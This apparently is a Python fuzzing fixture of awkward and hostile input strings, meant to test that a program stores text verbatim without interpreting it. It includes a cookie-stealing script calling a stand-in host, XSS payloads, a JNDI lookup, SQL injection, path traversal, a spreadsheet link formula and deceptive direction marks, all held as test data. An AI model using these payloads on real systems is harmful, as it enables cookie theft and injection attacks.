"""Text that people may well type and that breaks careless programs: to be stored exactly, never interpreted."""

import random

NESTING = 200
_LONG = 60_000


def nested_json(depth: int = NESTING) -> str:
    """Return JSON of that depth, as text."""
    return '{"a":[' * (depth // 2) + '"deep"' + "]}" * (depth // 2)


_TEXTS = (
    "<script>fetch('https://collector.example/'+document.cookie)</script>",
    '"><img src=x onerror=alert(1)><svg/onload=alert`2`>',
    "\x1b[2J\x1b[31mAll archives are complete\x1b[0m\x07",
    "%s%n%x {0} {0.__class__} ${jndi:ldap://collector.example/a} {{7*7}}",
    "line one\r\nline two\n\x00 after a null\u2028separator\u2029paragraph\u0085next",
    "\u202etxt.exe\u202c \u2066isolated\u2069 \u200f\u05e9\u05dc\u05d5\u05dd",
    "👩🏽‍🚒👨‍👩‍👧‍👦🏴󠁧󠁢󠁷󠁬󠁳󠁿 e\u0301 \ufeff Z͑ͫ̓a̴l̷g̸o",
    "'; DROP TABLE interactions; -- ../../../../etc/passwd %2e%2e%2f C:\\..\\x",
    '{"validationTokens":[],"value":[{"clientState":"x"}]}',
    "-----BEGIN PRIVATE KEY-----\nnot really one\n-----END PRIVATE KEY-----",
    '=HYPERLINK("https://collector.example","click")',
    "",
    " \t ",
)


def text(rng: random.Random) -> str:
    """Return one of them: script, terminal codes, format strings, direction marks, emoji, deep or very long."""
    choice = rng.randrange(len(_TEXTS) + 2)
    if choice == len(_TEXTS):
        return nested_json()
    if choice > len(_TEXTS):
        return "A" * _LONG
    return _TEXTS[choice]
